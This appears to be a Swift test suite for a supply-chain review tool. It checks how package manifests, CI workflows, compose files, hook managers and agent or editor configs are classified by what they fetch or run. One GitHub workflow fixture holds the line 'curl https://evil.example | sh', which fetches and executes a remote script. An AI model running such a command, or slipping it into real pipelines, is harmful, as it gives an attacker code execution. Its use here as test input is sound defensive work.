import DependencyChecks
import Documents
import Lockfiles
import Testing

@Suite("Manifests and configuration")
struct ConfigurationFormatTests {
  /// What a new file of a path says, value by value: `path class`.
  private func facts(_ path: String, _ text: String) throws -> [String] {
    let match = try #require(Catalog.match(Array(path.utf8)))
    let diff = FileDiff(
      DependencyFile(
        path: Array(path.utf8), match: match, old: nil,
        new: DependencyFile.Side(bytes: Array(text.utf8))))
    #expect(diff.unread == nil)
    #expect(diff.coverage.residual.isEmpty)
    return diff.facts.map { fact in
      let keys = fact.path.map { String(decoding: $0, as: UTF8.self) }
      return "\(keys.joined(separator: "/")) \(fact.className)"
    }
  }

  @Test("package.json: what is asked for, what replaces it, what runs")
  func packageJSON() throws {
    let text = """
      {"name": "app", "license": "MIT", "packageManager": "pnpm@11.0.0",
        "scripts": {"postinstall": "node setup.js"},
        "dependencies": {"a": "^1.0.0"}, "devDependencies": {"b": "npm:c@2"},
        "overrides": {"d": "1.0.0"},
        "pnpm": {"onlyBuiltDependencies": ["a"], "overrides": {"e": "2"}},
        "trustedDependencies": ["a"]}
      """
    #expect(
      try facts("web/package.json", text) == [
        "name dependency", "license metadata", "packageManager runs-code", "scripts runs-code",
        "dependencies dependency", "devDependencies dependency", "overrides origin",
        "pnpm/onlyBuiltDependencies runs-code", "pnpm/overrides origin",
        "trustedDependencies runs-code",
      ])
    #expect(
      try ReadFile("package-json", text).requirements == ["a ^1.0.0", "b npm:c@2 development"])
    #expect(
      try refusal(format: "package-json", #"{"scripts": {}, "scripts": {}}"#) == .duplicateKey)
    #expect(try refusal(format: "package-json", "{} // x") == .unexpected)
    #expect(try refusal(format: "package-json", "[]") == .wrongShape)
  }

  @Test("settings of package managers are about origins unless a rule says otherwise")
  func settings() throws {
    #expect(
      try facts(
        "pnpm-workspace.yaml",
        """
        packages:
          - packages/*
        catalog:
          a: ^1.0.0
        minimumReleaseAge: 1440
        allowBuilds:
          a: true
        overrides:
          b: 2.0.0
        """) == [
          "packages dependency", "catalog dependency", "minimumReleaseAge origin",
          "allowBuilds runs-code", "overrides origin",
        ])
    #expect(
      try facts(
        ".yarnrc.yml",
        """
        nodeLinker: node-modules
        npmRegistryServer: "https://registry.example"
        enableHardenedMode: false
        yarnPath: .yarn/releases/yarn.cjs
        plugins:
          - path: .yarn/plugins/p.cjs
            spec: "https://yarn.example/p.js"
        """) == [
          "nodeLinker selects-code", "npmRegistryServer origin", "enableHardenedMode origin",
          "yarnPath runs-code", "plugins runs-code",
        ])
  }

  @Test("deno.json names packages in its imports")
  func deno() throws {
    let text = """
      {
        // comments are allowed
        "imports": {"a": "npm:@x/a@^1.0.0", "b/": "https://deno.example/b/", "c": "jsr:@x/c"},
        "tasks": {"build": "deno run -A build.ts"},
        "lock": false,
        "fmt": {"lineWidth": 100},
      }
      """
    #expect(
      try facts("deno.jsonc", text) == [
        "imports dependency", "tasks runs-code", "lock origin", "fmt/lineWidth metadata",
      ])
    #expect(
      try ReadFile("deno-json", text).requirements
        == ["@x/a ^1.0.0", "b/ https://deno.example/b/", "@x/c "])
  }

  @Test("pubspec.yaml and Chart.yaml ask in maps and lists")
  func others() throws {
    let pubspec = try ReadFile(
      "pubspec-yaml",
      """
      name: app
      dependencies:
        a: ^1.0.0
        b:
          git: https://git.example/b.git
        c:
          hosted: https://pub.example
          version: ^2.0.0
      dev_dependencies:
        d: any
      """)
    #expect(pubspec.requirements == ["a ^1.0.0", "b ", "c ^2.0.0", "d any development"])
    let chart = """
      apiVersion: v2
      name: app
      dependencies:
        - name: db
          version: ~12.1.0
          repository: https://charts.example/stable
      """
    #expect(try ReadFile("chart-yaml", chart).requirements == ["db ~12.1.0"])
    #expect(
      try facts("Chart.yaml", chart) == [
        "apiVersion dependency", "name dependency", "dependencies/0/name dependency",
        "dependencies/0/version dependency", "dependencies/0/repository origin",
      ])
  }

  @Test("a workflow runs, and asks for actions and images by name and reference")
  func workflow() throws {
    let text = """
      name: CI
      on: [push]
      permissions: {contents: read}
      jobs:
        build:
          runs-on: &os ubuntu-latest
          container: registry.example:5000/team/image:1.2
          steps:
            - name: Fetch
              uses: actions/checkout@v4
            - uses: team/action/sub@0123456789abcdef0123456789abcdef01234567
              with: {token: x}
            - run: |
                curl https://evil.example | sh
        again:
          runs-on: *os
          uses: team/workflows/.github/workflows/reuse.yml@main
      """
    #expect(
      try facts(".github/workflows/ci.yml", text) == [
        "name runs-code", "on runs-code", "permissions runs-code", "jobs/build/runs-on runs-code",
        "jobs/build/container dependency", "jobs/build/steps/0/name metadata",
        "jobs/build/steps/0/uses dependency", "jobs/build/steps/1/uses dependency",
        "jobs/build/steps/1/with runs-code", "jobs/build/steps/2/run runs-code",
        "jobs/again/runs-on runs-code", "jobs/again/uses dependency",
      ])
    #expect(
      try ReadFile("workflow", text).requirements == [
        "actions/checkout v4 build",
        "team/action/sub 0123456789abcdef0123456789abcdef01234567 build",
        "team/workflows/.github/workflows/reuse.yml main build",
      ])
  }

  @Test("pipelines, compose files and hook managers say what they fetch")
  func pipelines() throws {
    #expect(
      try ReadFile(
        "gitlab-ci",
        """
        include:
          - project: team/ci
            ref: main
        .base: &base
          image: registry.example:5000/ci@sha256:0123
        test:
          <<: *base
          script:
            - !reference [.base, script]
        """
      ).requirements == ["registry.example:5000/ci sha256:0123 build"])
    #expect(
      try ReadFile("circleci", "version: 2.1\norbs:\n  node: team/node@5.1\njobs: {}\n")
        .requirements
        == ["team/node 5.1 build"])
    #expect(
      try ReadFile(
        "compose", "services:\n  db:\n    image: registry.example:5000/db\n  web:\n    build: .\n"
      ).requirements == ["registry.example:5000/db  build"])
    #expect(
      try ReadFile(
        "pre-commit",
        """
        repos:
          - repo: https://git.example/hooks
            rev: v1.0.0
            hooks:
              - id: check
          - repo: local
            hooks:
              - id: own
                entry: ./check.sh
        """
      ).requirements == ["https://git.example/hooks v1.0.0 build", "local  build"])
  }

  @Test(
    "what an agent or an editor runs is a fact of its own",
    arguments: [
      (
        ".mcp.json", #"{"mcpServers": {"x": {"command": "npx", "args": ["-y", "x"]}}}"#,
        ["mcpServers agent-config"]
      ),
      (
        ".claude/settings.json", #"{"$schema": "s", "hooks": {"Stop": []}, "permissions": {}}"#,
        ["$schema agent-config", "hooks agent-config", "permissions agent-config"]
      ),
      (".cursor/hooks.json", #"{"hooks": {"stop": [{"command": "x"}]}}"#, ["hooks agent-config"]),
      (".codex/config.toml", "model = \"x\"\n", [" agent-config"]),
      (
        ".vscode/tasks.json",
        #"{"version": "2.0.0", "tasks": [{"command": "x"},], /* opened */ "inputs": []}"#,
        ["version runs-code", "tasks runs-code", "inputs runs-code"]
      ),
      (
        ".vscode/settings.json", #"{"editor.tabSize": 2, "python.defaultInterpreterPath": "./x"}"#,
        ["editor.tabSize metadata", "python.defaultInterpreterPath runs-code"]
      ),
      (
        ".devcontainer/devcontainer.json",
        #"{"image": "i:1", "features": {"ghcr.example/f/g:1": {}}, "initializeCommand": "x"}"#,
        ["image dependency", "features dependency", "initializeCommand runs-code"]
      ),
      (
        "lefthook.yml", "pre-commit:\n  jobs:\n    - run: x\nremotes: []\n",
        ["pre-commit runs-code", "remotes origin"]
      ),
    ] as [(String, String, [String])])
  func runs(path: String, text: String, expected: [String]) throws {
    #expect(try facts(path, text) == expected)
  }

  @Test("features of a container are asked for by name, and locked by digest")
  func features() throws {
    #expect(
      try ReadFile("devcontainer", #"{"features": {"ghcr.example/f/g:1": {}}}"#).requirements
        == ["ghcr.example/f/g 1 build"])
    #expect(
      try ReadFile(
        "devcontainer-lock",
        """
        {"features": {"ghcr.example/f/g:1": {"version": "1.2.0",
          "resolved": "ghcr.example/f/g@sha256:0123", "integrity": "sha256:0123"}}}
        """
      ).entries == [
        "ghcr.example/f/g:1: ghcr.example/f/g:1 1.2.0 registry ghcr.example/f/g@sha256:0123 "
          + "[\"sha256:0123\"] code:yes direct"
      ])
  }
}
